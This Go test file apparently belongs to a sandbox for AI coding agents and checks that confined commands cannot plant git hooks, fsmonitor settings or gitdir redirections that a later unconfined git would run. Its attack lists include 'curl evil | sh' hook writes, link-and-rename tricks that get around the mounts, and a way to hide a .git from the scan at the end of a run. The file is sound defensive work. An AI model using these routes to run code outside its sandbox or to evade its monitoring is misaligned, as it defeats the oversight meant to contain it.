//go:build linux

package sandbox_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/awlrun/awl/runner/sandbox"
)

// nestedRepo is a working directory whose repository has what git
// trusts beyond its .git: a submodule (its .git a file) with a nested
// one, an old-style submodule with an embedded .git directory, a linked
// worktree inside the working directory (its .git a file), and hooks in
// .husky, which core.hooksPath names. It returns the files, with their
// contents, a confined command must not change.
func nestedRepo(t *testing.T) (cwd string, files map[string]string) {
	t.Helper()
	cwd = filepath.Join(t.TempDir(), "work")
	files = map[string]string{
		".git/HEAD":                          "ref: refs/heads/main\n",
		".git/config":                        "[core]\n\tbare = false\n[core]\n\thooksPath = .husky\n",
		".git/info/exclude":                  "# excludes\n",
		".git/modules/lib/HEAD":              "ref: refs/heads/main\n",
		".git/modules/lib/config":            "[core]\n",
		".git/modules/lib/modules/deep/HEAD": "ref: refs/heads/main\n",
		".git/worktrees/wt/HEAD":             "ref: refs/heads/wt\n",
		".git/worktrees/wt/commondir":        "../..\n",
		".gitmodules":                        "[submodule \"lib\"]\n\tpath = lib\n\turl = ../lib\n[submodule \"old\"]\n\tpath = vendor/old\n\turl = ../old\n",
		"lib/.git":                           "gitdir: ../.git/modules/lib\n",
		"lib/.gitmodules":                    "[submodule \"deep\"]\n\tpath = deep\n",
		"lib/deep/.git":                      "gitdir: ../../.git/modules/lib/modules/deep\n",
		"vendor/old/.git/HEAD":               "ref: refs/heads/main\n",
		"vendor/old/.git/config":             "[core]\n",
		"wt/.git":                            "gitdir: " + filepath.Join(cwd, ".git/worktrees/wt") + "\n",
		".husky/pre-commit":                  "npm test\n",
	}
	files[".git/worktrees/wt/gitdir"] = filepath.Join(cwd, "wt/.git") + "\n"
	for name, content := range files {
		p := filepath.Join(cwd, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return cwd, files
}

// sameFiles checks that files hold what they held.
func sameFiles(t *testing.T, cwd string, files map[string]string) {
	t.Helper()
	for name, want := range files {
		if b, err := os.ReadFile(filepath.Join(cwd, name)); err != nil || string(b) != want {
			t.Errorf("%s: %q %v, want %q", name, b, err, want)
		}
	}
}

// notes collects what OnGitChange tells.
type notes struct {
	mu  sync.Mutex
	got []string
}

func (n *notes) add(c string) {
	n.mu.Lock()
	n.got = append(n.got, c)
	n.mu.Unlock()
}

// wait waits for want to be told: the look runs once the command has
// exited, as the tool returns.
func (n *notes) wait(t *testing.T, want string) {
	t.Helper()
	for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		n.mu.Lock()
		ok := slices.Contains(n.got, want)
		n.mu.Unlock()
		if ok {
			return
		}
	}
	n.mu.Lock()
	defer n.mu.Unlock()
	t.Errorf("OnGitChange told %q, want %q", n.got, want)
}

// The attacks of issue 47 on what git trusts beyond .git itself: a
// submodule's .git file pointed at a git directory the model made, a
// linked worktree's .git file replaced with a directory, commondir,
// gitdir, config.worktree and info/ planted, a hook written in the
// directory core.hooksPath names. With the namespaces all are read-only
// (enforced.git true); what no mount can hold, a submodule's directory
// renamed and made anew, or a .git made elsewhere, is told after the
// command and at the end of the run.
func TestGitNestedReadOnly(t *testing.T) {
	requireABI(t, sandbox.ABINetwork)
	cwd, files := nestedRepo(t)
	attacks := []string{
		"echo 'gitdir: /tmp/evil' > lib/.git",
		"echo 'gitdir: /tmp/evil' > lib/deep/.git",
		"echo '[core] fsmonitor = evil' >> vendor/old/.git/config",
		"rm -f wt/.git && mkdir wt/.git",
		"mv wt/.git wt/gone",
		"echo evil > .husky/pre-commit",
		"echo /tmp/evil > .git/commondir",
		"echo /tmp/evil > .git/gitdir",
		"echo '[core] fsmonitor = evil' > .git/config.worktree",
		"echo '* filter=evil' > .git/info/attributes",
		"echo /tmp/evil > .git/worktrees/wt/commondir",
		"echo '[core] fsmonitor = evil' > .git/modules/lib/config",
		// Around the mount: a hard link, a symbolic link, a rename.
		"ln .git/config hl && echo '[core] fsmonitor = evil' >> hl",
		"ln lib/.git hl2 && echo 'gitdir: /tmp/evil' > hl2",
		"ln -s .git/config sl && echo '[core] fsmonitor = evil' >> sl",
		"mv .git g2",
		"mv .husky h2 && mkdir .husky",
	}
	// Unconfined, each would have done it: the files are writable.
	sb := readOnlyGitSandbox(t, cwd, "lib/.git", "lib/deep/.git", "vendor/old/.git/config", "wt/.git", ".husky/pre-commit", ".git/info/exclude")
	var told notes
	sb.OnGitChange(told.add)
	tools := toolsFor(cwd, sb)
	for _, cmd := range attacks {
		if res := run(tools, "bash", map[string]any{"command": cmd}); !res.IsError {
			t.Errorf("%s: succeeded:\n%s", cmd, res.Content)
		}
	}
	for _, p := range []string{"lib/.git", "wt/.git", ".husky/pre-commit", "vendor/old/.git/config"} {
		in, _ := json.Marshal(map[string]any{"path": p, "content": "gitdir: /tmp/evil\n"})
		if res := tools["write"].Run(context.Background(), in); !res.IsError || !strings.Contains(res.Content, "Permission denied") {
			t.Errorf("write %s: want it refused:\n%s", p, res.Content)
		}
	}
	sameFiles(t, cwd, files)
	for _, p := range []string{".git/commondir", ".git/gitdir", ".git/config.worktree", ".git/info/attributes"} {
		mustNotExist(t, filepath.Join(cwd, p))
	}
	// What no mount holds: told after the command, not at the end again.
	mustOK(t, run(tools, "bash", map[string]any{"command": "mv lib lib2 && mkdir lib && echo 'gitdir: /tmp/evil' > lib/.git"}))
	told.wait(t, "lib/.git (replaced)")
	mustOK(t, run(tools, "bash", map[string]any{"command": "mkdir -p src/app/.git && echo ok > src/app/.git/HEAD"}))
	changes := sb.GitChanges()
	if !slices.Contains(changes, "src/app/.git (created or changed)") || slices.Contains(changes, "lib/.git (replaced)") {
		t.Errorf("GitChanges = %q, want src/app/.git made, and not lib/.git, told already", changes)
	}
}

// Without namespaces nothing holds them: enforced.git is false, the
// warning at the start names them, and each change is told after the
// command that made it.
func TestGitNestedWatchedWithoutNamespaces(t *testing.T) {
	requireABI(t, sandbox.ABINetwork)
	withoutNamespaces(t)
	cwd, _ := nestedRepo(t)
	sb, st, err := sandbox.New(sandbox.Options{Mode: sandbox.WorkspaceWrite, Cwd: cwd})
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	if st.GitReadOnly || st.Enforced.Git {
		t.Fatalf("status %+v: enforced.git without namespaces", st)
	}
	w := sb.GitWarning()
	for _, p := range []string{".git", "lib/.git", "lib/deep/.git", "vendor/old/.git", "wt/.git", ".husky"} {
		if !strings.Contains(w, filepath.Join(cwd, p)) {
			t.Errorf("GitWarning does not name %s: %s", p, w)
		}
	}
	var told notes
	sb.OnGitChange(told.add)
	tools := toolsFor(cwd, sb)
	for cmd, want := range map[string]string{
		"echo 'gitdir: /tmp/evil' > lib/.git":           "lib/.git (changed)",
		"echo evil >> .husky/pre-commit":                ".husky/pre-commit (changed)",
		"echo /tmp/evil > .git/commondir":               ".git/commondir (added)",
		"echo '* filter=evil' > .git/info/attributes":   ".git/info/attributes (added)",
		"rm wt/.git && mkdir wt/.git":                   "wt/.git (replaced)",
		"echo /tmp/evil > .git/worktrees/wt/commondir":  ".git/worktrees/wt/commondir (changed)",
		"echo '[core] x = y' >> vendor/old/.git/config": "vendor/old/.git/config (changed)",
		"echo '[core] x = y' > .git/modules/lib/config": ".git/modules/lib/config (changed)",
		"rm .git/info/exclude":                          ".git/info/exclude (removed)",
	} {
		mustOK(t, run(tools, "bash", map[string]any{"command": cmd}))
		told.wait(t, want)
	}
}

// A working directory without a .git: a tool may make one, which git
// run there later would take for the repository. It is told.
func TestGitMadeWhereThereWasNone(t *testing.T) {
	requireABI(t, sandbox.ABINetwork)
	cwd := t.TempDir()
	sb, st, err := sandbox.New(sandbox.Options{Mode: sandbox.WorkspaceWrite, Cwd: cwd})
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	if st.Enforced.Git {
		t.Errorf("status %+v: enforced.git without a .git", st)
	}
	var told notes
	sb.OnGitChange(told.add)
	mustOK(t, run(toolsFor(cwd, sb), "bash", map[string]any{"command": "mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout"}))
	told.wait(t, ".git (created)")
}

// A .git made by a tool that is no confined command (the write tool), so
// that no look follows it, is found by the end of the run's look.
func TestGitMadeByTheWriteTool(t *testing.T) {
	requireABI(t, sandbox.ABINetwork)
	cwd := t.TempDir()
	sb, _, err := sandbox.New(sandbox.Options{Mode: sandbox.WorkspaceWrite, Cwd: cwd})
	if err != nil {
		t.Fatal(err)
	}
	defer sb.Close()
	in, _ := json.Marshal(map[string]any{"path": ".git/hooks/post-checkout", "content": "evil\n"})
	mustOK(t, toolsFor(cwd, sb)["write"].Run(context.Background(), in))
	if changes := sb.GitChanges(); !slices.Contains(changes, ".git (created)") {
		t.Errorf("GitChanges = %q, want .git (created)", changes)
	}
}

// Git's configuration may include files (include.path, includeIf), and a
// file it includes from the workspace is configuration the model could
// write: core.fsmonitor, or a core.hooksPath of its own, for the next git
// outside the sandbox. Every file the repository's config includes,
// conditionally or not, nested, and every hooks directory any of them
// names, in the forms git reads (a variable on its header's line, quotes,
// comments, a continued line, upper case), is read-only; an included
// file that does not exist yet makes enforced.git false, is warned of,
// and is told when a command makes it.
func TestGitConfigIncludesReadOnly(t *testing.T) {
	requireABI(t, sandbox.ABINetwork)
	cwd := filepath.Join(t.TempDir(), "work")
	files := map[string]string{
		".git/HEAD": "ref: refs/heads/main\n",
		".git/config": "[core]\n\tbare = false\n[include]\n\tpath = ../.gitconfig-shared\n" +
			"[includeIf \"gitdir:/nowhere/\"]\n\tpath = ../cfg/hooks.cfg\n",
		".gitconfig-shared":       "[CORE] hooksPath = .githooks\n[include] path = \"nested.cfg\" ; a comment\n",
		"nested.cfg":              "[core]\n\thooksPath = \"tools/ho\\\noks\" # continued\n",
		"cfg/hooks.cfg":           "; conditional\n[core]\n  HOOKSPATH = scripts/hooks\t\n",
		".githooks/pre-commit":    "make lint\n",
		"tools/hooks/pre-commit":  "make test\n",
		"scripts/hooks/pre-push":  "make all\n",
		"scripts/hooks/README.md": "hooks\n",
	}
	for name, content := range files {
		p := filepath.Join(cwd, name)
		os.MkdirAll(filepath.Dir(p), 0o755)
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	os.MkdirAll(filepath.Join(cwd, ".git", "objects"), 0o755)
	os.MkdirAll(filepath.Join(cwd, ".git", "refs"), 0o755)
	guarded := []string{".gitconfig-shared", "nested.cfg", "cfg/hooks.cfg", ".githooks/pre-commit", "tools/hooks/pre-commit", "scripts/hooks/pre-push"}
	if git, err := exec.LookPath("git"); err == nil {
		// git reads them so: the hooks directories are its.
		out, err := exec.Command(git, "-C", cwd, "-c", "safe.directory=*", "config", "--includes", "--get-all", "core.hookspath").CombinedOutput()
		if err != nil || !strings.Contains(string(out), ".githooks\ntools/hooks\n") {
			t.Fatalf("git config --get-all core.hooksPath: %v\n%s", err, out)
		}
	}
	sb := readOnlyGitSandbox(t, cwd, guarded...)
	tools := toolsFor(cwd, sb)
	for _, name := range guarded {
		cmd := "echo '[core] fsmonitor = evil' >> " + name
		if res := run(tools, "bash", map[string]any{"command": cmd}); !res.IsError {
			t.Errorf("%s: succeeded:\n%s", cmd, res.Content)
		}
	}
	mustOK(t, run(tools, "bash", map[string]any{"command": "echo x > scripts/other.txt"}))
	sameFiles(t, cwd, files)

	// An include that names a file not there yet.
	os.WriteFile(filepath.Join(cwd, ".git/config"), []byte(files[".git/config"]+"[include]\n\tpath = ../local.cfg\n"), 0o644)
	sb2, st2, err := sandbox.New(sandbox.Options{Mode: sandbox.WorkspaceWrite, Cwd: cwd})
	if err != nil {
		t.Fatal(err)
	}
	defer sb2.Close()
	if st2.Enforced.Git {
		t.Errorf("status %+v: enforced.git with an include a command may make", st2)
	}
	if w := sb2.GitWarning(); !strings.Contains(w, filepath.Join(cwd, "local.cfg")) {
		t.Errorf("GitWarning does not name local.cfg: %q", w)
	}
	var told notes
	sb2.OnGitChange(told.add)
	mustOK(t, run(toolsFor(cwd, sb2), "bash", map[string]any{"command": "echo '[core] fsmonitor = evil' > local.cfg"}))
	told.wait(t, "local.cfg (created)")
}

// A core.hooksPath that names a directory not there yet (.githooks on a
// branch without it, a relative hooksPath in the user's configuration)
// is no protection: no mount holds a name that does not exist, and a
// command that makes it writes the hooks the next git commit outside the
// sandbox runs. So enforced.git is false, the start's warning names it
// where .git is otherwise read-only, and the hook made is told after the
// command and at the end of the run, with the namespaces and without.
func TestGitHooksPathNotThereYet(t *testing.T) {
	requireABI(t, sandbox.ABINetwork)
	bothWays(t, func(t *testing.T) {
		cwd := filepath.Join(t.TempDir(), "work")
		for name, content := range map[string]string{
			".git/HEAD":   "ref: refs/heads/main\n",
			".git/config": "[core]\n\tbare = false\n\thooksPath = .githooks\n",
		} {
			os.MkdirAll(filepath.Dir(filepath.Join(cwd, name)), 0o755)
			if err := os.WriteFile(filepath.Join(cwd, name), []byte(content), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		sb, st, err := sandbox.New(sandbox.Options{Mode: sandbox.WorkspaceWrite, Cwd: cwd})
		if err != nil {
			t.Fatal(err)
		}
		defer sb.Close()
		if st.Enforced.Git {
			t.Errorf("status %+v: enforced.git true with a hooks directory a command may make", st)
		}
		hooks := filepath.Join(cwd, ".githooks")
		if w := sb.GitWarning(); st.GitReadOnly && !strings.Contains(w, hooks) {
			t.Errorf("GitWarning does not name %s: %q", hooks, w)
		}
		var told notes
		sb.OnGitChange(told.add)
		mustOK(t, run(toolsFor(cwd, sb), "bash", map[string]any{"command": "mkdir .githooks && echo evil > .githooks/pre-commit"}))
		told.wait(t, ".githooks (created)")
		end := sb.GitChanges()
		told.mu.Lock()
		defer told.mu.Unlock()
		if !slices.Contains(end, ".githooks/pre-commit (added)") && !slices.Contains(told.got, ".githooks/pre-commit (added)") {
			t.Errorf("the hook made was not told: after the command %q, at the end %q", told.got, end)
		}
	})
}

// A command cannot hide a .git it made behind more entries than the end
// of the run's walk looks at (seq 200001 | xargs touch, then zz/.git):
// the walk, cut short, says so. The bound is 50 here; awl's is 200,000.
func TestGitMadePastTheWalksBound(t *testing.T) {
	requireABI(t, sandbox.ABINetwork)
	t.Cleanup(sandbox.WithMaxWalk(50))
	for _, files := range []int{10, 60} {
		t.Run(fmt.Sprint(files, " files first"), func(t *testing.T) {
			f := newFixture(t, sandbox.Options{Mode: sandbox.WorkspaceWrite})
			mustOK(t, f.bash(t, fmt.Sprintf("mkdir a && cd a && touch $(seq %d) && cd .. && mkdir -p zz/.git", files)))
			// At once, as a run that ends with this command does: the
			// look after it may not have run yet.
			changes := f.sb.GitChanges()
			cut := slices.ContainsFunc(changes, func(c string) bool { return strings.Contains(c, "past the first 50 entries") })
			made := slices.Contains(changes, "zz/.git (created or changed)")
			if files < 50 && (!made || cut) || files > 50 && !cut {
				t.Errorf("GitChanges = %q", changes)
			}
		})
	}
}

// A repository checked out inside the working directory that is no
// submodule (a CI job's second actions/checkout with a path) has a .git
// no mount holds: a command that plants core.fsmonitor or a hook there is
// reported at the end of the run, and one that leaves it alone is not,
// with the namespaces and without.
func TestGitNestedRepositoryReported(t *testing.T) {
	requireABI(t, sandbox.ABINetwork)
	bothWays(t, func(t *testing.T) {
		cwd := filepath.Join(t.TempDir(), "work")
		for _, name := range []string{".git/HEAD", "tools/b/.git/HEAD", "tools/b/.git/config", "tools/b/.git/hooks/pre-commit.sample",
			"tools/b/.git/info/exclude", "vendor/c/.git/HEAD", "vendor/c/.git/config"} {
			os.MkdirAll(filepath.Dir(filepath.Join(cwd, name)), 0o755)
			if err := os.WriteFile(filepath.Join(cwd, name), []byte("ref: refs/heads/main\n"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		time.Sleep(20 * time.Millisecond) // older than the sandbox by more than a clock tick
		sb, _, err := sandbox.New(sandbox.Options{Mode: sandbox.WorkspaceWrite, Cwd: cwd})
		if err != nil {
			t.Fatal(err)
		}
		defer sb.Close()
		mustOK(t, run(toolsFor(cwd, sb), "bash", map[string]any{"command": "echo '[core] fsmonitor = evil' >> tools/b/.git/config && " +
			"echo evil > tools/b/.git/hooks/post-checkout && echo '* filter=evil' > tools/b/.git/info/attributes && cat vendor/c/.git/config"}))
		changes := sb.GitChanges()
		for _, want := range []string{"tools/b/.git/config (changed)", "tools/b/.git/hooks/post-checkout (changed)", "tools/b/.git/info/attributes (changed)"} {
			if !slices.Contains(changes, want) {
				t.Errorf("GitChanges = %q, want %q among them", changes, want)
			}
		}
		if slices.ContainsFunc(changes, func(c string) bool { return strings.Contains(c, "vendor/c") || strings.Contains(c, "exclude") }) {
			t.Errorf("GitChanges = %q: what was left alone is reported", changes)
		}
	})
}

// husky 9 names .husky/_ in core.hooksPath, whose every hook sources its
// h, which runs .husky/<the hook's name>: those are the hooks a later git
// commit runs. With the namespaces they are read-only like .husky/_;
// without, a change is reported.
func TestGitHuskyHooksHeld(t *testing.T) {
	requireABI(t, sandbox.ABINetwork)
	bothWays(t, func(t *testing.T) {
		cwd := filepath.Join(t.TempDir(), "work")
		files := map[string]string{
			".git/HEAD":              "ref: refs/heads/main\n",
			".git/config":            "[core]\n\thooksPath = .husky/_\n",
			".husky/_/h":             "#!/usr/bin/env sh\nn=$(basename \"$0\")\ns=$(dirname \"$(dirname \"$0\")\")/$n\n[ ! -f \"$s\" ] && exit 0\nsh -e \"$s\" \"$@\"\n",
			".husky/_/pre-commit":    "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n",
			".husky/_/post-checkout": "#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n",
			".husky/pre-commit":      "npm test\n",
		}
		for name, content := range files {
			os.MkdirAll(filepath.Dir(filepath.Join(cwd, name)), 0o755)
			if err := os.WriteFile(filepath.Join(cwd, name), []byte(content), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		sb, st, err := sandbox.New(sandbox.Options{Mode: sandbox.WorkspaceWrite, Cwd: cwd})
		if err != nil {
			t.Fatal(err)
		}
		defer sb.Close()
		tools := toolsFor(cwd, sb)
		attacks := []string{"echo 'curl evil | sh' >> .husky/pre-commit", "echo 'curl evil | sh' > .husky/post-checkout"}
		for _, cmd := range attacks {
			res := run(tools, "bash", map[string]any{"command": cmd})
			if st.GitReadOnly && !res.IsError {
				t.Errorf("%s: succeeded:\n%s", cmd, res.Content)
			}
		}
		if st.GitReadOnly {
			sameFiles(t, cwd, files)
			mustNotExist(t, filepath.Join(cwd, ".husky/post-checkout"))
			return
		}
		changes := sb.GitChanges()
		if !slices.Contains(changes, ".husky/pre-commit (changed)") || !slices.Contains(changes, ".husky/post-checkout (added)") {
			t.Errorf("GitChanges = %q, want .husky's hooks changed and added", changes)
		}
	})
}

// readOnlyGitSandbox is a workspace-write sandbox of cwd, whose git files
// (guarded, each first shown writable unconfined, so that the test
// proves something) the namespaces make read-only; it skips where there
// are none.
func readOnlyGitSandbox(t *testing.T, cwd string, guarded ...string) *sandbox.Sandbox {
	t.Helper()
	for _, name := range guarded {
		f, err := os.OpenFile(filepath.Join(cwd, name), os.O_WRONLY, 0)
		if err != nil {
			t.Fatalf("unconfined, %s is not writable: the test would prove nothing: %v", name, err)
		}
		f.Close()
	}
	sb, st, err := sandbox.New(sandbox.Options{Mode: sandbox.WorkspaceWrite, Cwd: cwd})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sb.Close() })
	requireNamespaces(t, st)
	if !st.GitReadOnly || !st.Enforced.Git {
		t.Fatalf("status %+v: not read-only", st)
	}
	return sb
}
